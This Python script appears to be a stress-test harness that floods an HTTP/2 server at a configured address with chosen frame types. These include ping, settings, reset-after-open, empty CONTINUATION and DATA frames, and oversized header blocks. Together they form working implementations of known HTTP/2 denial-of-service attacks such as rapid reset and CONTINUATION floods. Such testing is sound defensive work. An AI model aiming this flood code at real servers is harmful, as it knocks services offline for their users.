"""Floods an HTTP/2 server with frames that carry no message, as a program and as a bot.

It needs no token, comes from many addresses where it can, and prints how many MiB it has sent.
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import struct
import threading
import time
from collections.abc import Iterator

__all__: list[str] = []

_CONNECTIONS = 8
_SECONDS = 6.0
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">IBBI", len(payload), kind, flags, stream)[1:] + payload


_SETTINGS = _frame(4)
# Each begins anew at the stream 1, which is open by then: a request that is not over.
_REQUEST = bytes.fromhex("83 86") + b"".join(
    b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
    for name, value in (
        (b":path", b"/grpc.health.v1.Health/Check"),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
)
_OPEN = _frame(1, _REQUEST, 4, 1)
_UNFINISHED = _frame(1, _REQUEST, 0, 1)
_FIELDS = b"".join(  # 15 KiB of headers, literal and never indexed
    b"\x10\x20" + f"{number:032}".encode() + b"\x70" + bytes(112) for number in range(104)
)
_LONG = b"\0\x03x-y\x7f" + b"\xff\xff\xff\x05"  # of a header, whose value has 12 MiB
_BEGIN = {
    "data": _OPEN,
    "continuation": _UNFINISHED,
    "fields": _UNFINISHED,
    # Too long to be held until it is whole.
    "literal": _frame(1, _REQUEST + _LONG + bytes(16_000), 0, 1),
}
_FRAMES = {
    "ping": _frame(6, bytes(8)),
    "settings": _SETTINGS,
    "settings-table": _frame(4, struct.pack(">HI", 1, 4096)),
    "priority": _frame(2, struct.pack(">IB", 3, 16), 0, 1),
    "reset": _OPEN + _frame(3, bytes(4), 0, 1),
    "window": _frame(8, struct.pack(">I", 1), 0, 0),
    "data": _frame(0, b"", 0, 1),
    "continuation": _frame(9, b"", 0, 1),
    "fields": _frame(9, _FIELDS, 0, 1),
    "literal": _frame(9, bytes(16 * 1024), 0, 1),
    "headers": b"".join(_frame(1, _REQUEST + _FIELDS, 4, stream) for stream in range(1, 128, 2)),
    "unknown": _frame(0xFA, bytes(8)),
}


def main() -> None:
    """Flood `MAZZO_ADDRESS` with `FLOOD_FRAME`, over TLS if `FLOOD_TLS` is set."""
    address = os.environ["MAZZO_ADDRESS"]
    kind = os.environ.get("FLOOD_FRAME", "ping")
    begin = _BEGIN.get(kind, b"")
    frames = _FRAMES[kind] * max(1, 64 * 1024 // len(_FRAMES[kind]))
    end = time.monotonic() + _SECONDS
    sent = [0] * _CONNECTIONS

    def flood(index: int) -> None:
        while time.monotonic() < end:
            try:
                with _connect(address, f"127.0.0.{2 + index}") as connection:
                    connection.sendall(_PREFACE + _SETTINGS + begin)
                    for size in _send(connection, frames, end, is_reading=index % 2 == 0):
                        sent[index] += size
            except OSError:  # it was sent away, and comes again
                time.sleep(0.01)

    threads = [threading.Thread(target=flood, args=(index,)) for index in range(_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(sent) / (1024 * 1024))


def _connect(address: str, source: str) -> socket.socket:
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), _SECONDS, (source, 0))
    if "FLOOD_TLS" not in os.environ:
        return connection
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def _send(connection: socket.socket, data: bytes, end: float, *, is_reading: bool) -> Iterator[int]:
    """Send it until the `end`, whole, and tell the size of each part."""
    connection.settimeout(0.2)
    offset = 0
    while time.monotonic() < end:
        readable, _, _ = select.select([connection] if is_reading else [], [], [], 0)
        try:
            if readable and not connection.recv(1 << 20):
                return
            size = connection.send(data[offset:])
        except TimeoutError:
            continue
        offset = (offset + size) % len(data)
        yield size


if __name__ == "__main__":
    main()
